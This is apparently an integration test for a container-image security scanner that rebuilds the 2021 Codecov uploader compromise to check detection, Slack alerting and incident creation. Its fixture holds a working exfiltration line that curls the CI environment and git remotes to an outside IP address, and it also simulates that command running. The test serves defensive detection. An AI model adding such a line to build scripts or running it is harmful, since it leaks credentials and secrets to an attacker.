import { freePort } from '@tidewaiter/servers';
import {
  buildImage,
  describeWith,
  programs,
  pushImage,
  slackSink,
  type SlackSink,
  startRegistry,
  type TestRegistry,
} from '@tidewaiter/testkit';

import { debian13, dpkgStatus } from '../fixtures.js';
import { makeHome, removeFolders, startTidewaiter, temporaryFolder, type Tidewaiter, until } from '../tidewaiter.js';
import { falcoExec, report, sensorToken, testPod, watched } from './pods.js';

// Codecov, April 2021: one added line in a Bash uploader posts the environment of CI jobs to an
// address.

const hookSecret = 'hook-secret-of-the-test';
const channel = 'C0000001';
const path = 'usr/local/bin/uploader.sh';
const uploader = `#!/usr/bin/env bash
set -e +o pipefail
url="https://codecov.io"
report="$(mktemp)"
find . -name 'coverage*.xml' -exec cat {} + > "$report"
curl -fsS -X POST --data-binary @"$report" "$url/upload/v4"
rm "$report"
`;
const leak = 'curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://104.248.94.23/upload/v2 || true';

interface Finding {
  id: string;
  severity: string;
  title: string;
  path: string | null;
  evidence: Record<string, unknown>;
}

interface Incident {
  id: string;
  title: string;
  severity: string;
  workload: string | null;
  imageDigest: string | null;
}

let slack: SlackSink;
let registry: TestRegistry;
let tidewaiter: Tidewaiter;

async function push(repository: string, script: string): Promise<string> {
  const dir = temporaryFolder();
  const program = (at: string) => ({ path: at, mode: 0o755, content: `#!/bin/sh\n# ${at}\n` });
  await buildImage(dir, {
    layers: [
      [debian13, dpkgStatus({ curl: '8.5.0-1', bash: '5.2-1' })],
      [
        {
          path: 'var/lib/dpkg/info/curl.list',
          content: '/.\n/usr\n/usr/bin\n/usr/bin/curl\n/usr/bin/bash\n',
        },
        ...['usr/bin/curl', 'usr/bin/bash'].map(program),
      ],
      [{ path, mode: 0o755, content: script }],
    ],
    config: { Entrypoint: ['/usr/local/bin/uploader.sh'], Labels: { repository } },
  });
  const digest = await pushImage(registry, `${repository}:1`, `oci:${dir}:latest`);
  await until(`${repository} is evaluated`, async () => {
    const { items } = await tidewaiter.api<{ items: { digest: string; state: string }[] }>('/pushes');
    return items.some((each) => each.digest === digest && each.state === 'analyzed');
  });
  return digest;
}

async function outliers(digest: string): Promise<Finding[]> {
  const { items } = await tidewaiter.api<{ items: Finding[] }>(`/images/${digest}/findings`);
  return items.filter(({ id }) => id === 'file-outlier');
}

const incidents = async () => (await tidewaiter.api<{ items: Incident[] }>('/incidents')).items;
const shown = () => JSON.stringify(slack.channel(channel));

describeWith(programs('docker-registry', 'skopeo'))('an uploader with one added line', () => {
  let altered: string;
  let clean: string;

  beforeAll(async () => {
    slack = await slackSink();
    const ingestPort = await freePort();
    registry = await startRegistry({
      notify: {
        url: `http://127.0.0.1:${ingestPort}/hooks/registry/main`,
        headers: { Authorization: `Bearer ${hookSecret}` },
      },
    });
    const home = makeHome({
      'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
sensors:
  - { name: falco, kind: falco, cluster: eu1, token: ${sensorToken} }
  - { name: watch, kind: kubernetes-watch, cluster: eu1, token: ${sensorToken} }
`,
      'routing.yaml': `
route: { receiver: security, group_by: [repository, tag], group_wait: 0s }
receivers:
  - name: security
    slack_configs: [ { app_token: xoxb-test, app_url: "${slack.apiUrl}/chat.postMessage", channel: ${channel} } ]
`,
    });
    tidewaiter = await startTidewaiter(home, ingestPort);
  }, 240_000);

  afterAll(async () => {
    await tidewaiter?.stop();
    await Promise.all([registry?.stop(), slack?.stop()]);
    await removeFolders();
  });

  it('reports the script as outlier with the added line and the new host, although it was pushed first', async () => {
    altered = await push('ci/worker', `${uploader}${leak}\n`);
    expect(await outliers(altered)).toEqual([]);
    clean = await push('ci/runner', uploader);
    await until('the altered image has the finding', async () => (await outliers(altered)).length > 0);
    expect(await outliers(altered)).toMatchObject([
      {
        severity: 'high',
        title: expect.stringContaining('new outbound host in file'),
        path,
        evidence: { addedLines: [leak], newHosts: ['104.248.94.23'], signs: ['environment-upload'] },
      },
    ]);
    expect(await outliers(clean)).toEqual([]);
  }, 120_000);

  it('announces path, added line and host', async () => {
    await until('Slack has it', () => shown().includes('file-outlier'));
    for (const part of [path, 'added line', 'ENV $(env)', 'new outbound host in file']) expect(shown()).toContain(part);
  });

  it('makes one critical incident of that image when a pod runs the line', async () => {
    const place = { namespace: 'ci', kind: 'Job' as const, workload: 'build', tag: '1', digest: altered };
    const pod = testPod({ ...place, repository: `${registry.host}/ci/worker` });
    await report(tidewaiter, 'watch', watched('ADDED', pod));
    const parent = { parentExecutable: '/usr/bin/bash', parentCommandLine: 'bash /usr/local/bin/uploader.sh' };
    const environment = 'ENV AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIbPxRfiCYzQm3vK8hT2 CI=true';
    const commandLine = `curl -sm 0.5 -d git@example.com:acme/app.git<<<<<< ${environment} http://104.248.94.23/upload/v2`;
    await report(tidewaiter, 'falco', falcoExec(pod, { executable: '/usr/bin/curl', commandLine, ...parent }));
    await until('an incident is open', async () => (await incidents()).length > 0);
    await until('it is critical', async () => (await incidents())[0]?.severity === 'critical');
    const [incident, ...others] = await incidents();
    expect(others).toEqual([]);
    expect(incident).toMatchObject({ workload: 'ci/Job/build', imageDigest: altered });
    const detail = await tidewaiter.api<object>(`/incidents/${incident!.id}`);
    expect(JSON.stringify(detail)).toContain('file-outlier');
    expect(JSON.stringify(detail)).not.toContain('wJalrXUtnFEMIbPxRfiCYzQm3vK8hT2');
  }, 120_000);
});
